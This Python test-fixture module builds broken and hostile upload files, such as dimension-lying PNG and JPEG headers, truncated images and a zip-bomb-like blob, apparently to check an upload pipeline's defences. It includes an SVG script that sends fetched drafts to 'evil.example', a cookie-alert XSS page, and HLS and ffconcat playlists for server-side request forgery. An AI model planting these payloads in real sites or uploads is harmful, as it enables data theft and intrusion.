"""Broken and hostile files, made on the spot: what an attacker or a careless export would upload."""

import io
import struct
import zlib
from functools import cache

from PIL import Image


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def png_claiming(width: int, height: int) -> bytes:
    """A PNG whose header claims width x height pixels, with one tiny compressed row of data."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + _png_chunk(b"IEND", b"")
    )


def jpeg_claiming(width: int, height: int) -> bytes:
    """A real small JPEG with its frame header (SOF0) rewritten to claim width x height."""
    data = bytearray(image(fmt="JPEG", size=(16, 16)))
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def image(*, fmt: str = "PNG", size=(64, 48), colour=(200, 80, 40)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, colour).save(buffer, fmt)
    return buffer.getvalue()


@cache  # a few seconds to make; every front door uploads the same bytes
def animated(*, fmt: str, frames: int, size=(4, 4)) -> bytes:
    """An animation of `frames` frames (GIF, PNG as APNG, or WebP)."""
    images = [Image.new("RGB", size, (i % 256, (i * 7) % 256, 0)) for i in range(frames)]
    buffer = io.BytesIO()
    images[0].save(buffer, fmt, save_all=True, append_images=images[1:], duration=10, loop=0)
    return buffer.getvalue()


def png_truncated_pixels() -> bytes:
    """A readable PNG header with the pixel data cut off half way."""
    data = image(fmt="PNG", size=(400, 300))
    return data[: len(data) // 2]


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
    b'<script>fetch("/api/drafts").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil.example",t))</script>'
    b'<rect width="100" height="100" fill="red"/></svg>'
)
HTML_PAGE = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
ZIP_BOMBISH = b"PK\x03\x04" + b"\x00" * 26 + zlib.compress(b"\x00" * 1_000_000)


def hls_playlist(url: str) -> bytes:
    """An HLS playlist that would make a careless prober fetch `url` (server-side request forgery)."""
    return f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n{url}\n#EXT-X-ENDLIST\n".encode()


def ffconcat(url: str) -> bytes:
    return f"ffconcat version 1.0\nfile '{url}'\n".encode()


def audio_only_mp4(seconds: float = 1.0) -> bytes:
    """An MP4 with an AAC track and no video."""
    import av
    import numpy as np

    buffer = io.BytesIO()
    with av.open(buffer, mode="w", format="mp4") as out:
        stream = out.add_stream("aac", rate=44100)
        samples = int(44100 * seconds)
        pcm = (np.sin(np.arange(samples) / 20) * 3000).astype(np.int16).reshape(1, -1)
        frame = av.AudioFrame.from_ndarray(pcm, format="s16", layout="mono")
        frame.sample_rate = 44100
        for packet in stream.encode(frame):
            out.mux(packet)
        for packet in stream.encode():
            out.mux(packet)
    return buffer.getvalue()
